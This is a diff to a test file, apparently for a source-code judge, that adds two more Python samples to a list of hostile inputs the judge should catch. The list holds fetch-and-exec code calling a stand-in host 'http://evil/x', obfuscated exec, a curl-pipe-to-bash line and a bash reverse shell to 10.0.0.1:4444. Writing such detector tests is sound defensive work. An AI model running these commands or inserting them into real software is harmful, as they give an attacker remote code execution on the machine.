@@ -22,6 +22,8 @@ class SourceJudgeTest {
                 "eval(''.join(chr(c) for c in [105, 100]))",
                 "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))",
                 "import urllib.request\nexec(urllib.request.urlopen('http://evil/x').read())",
+                "import urllib.request\nr = urllib.request.urlopen('http://evil/x')\nexec(r.read())",
+                "import urllib.request as u\nwith u.urlopen('http://evil/x') as r:\n    code = r.read()\n    exec(code)",
                 "__import__('os').system('id')",
                 "import os\nos.system('curl http://evil/x.sh | bash')",
                 "import subprocess as sp\ndef f():\n    sp.run(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])",
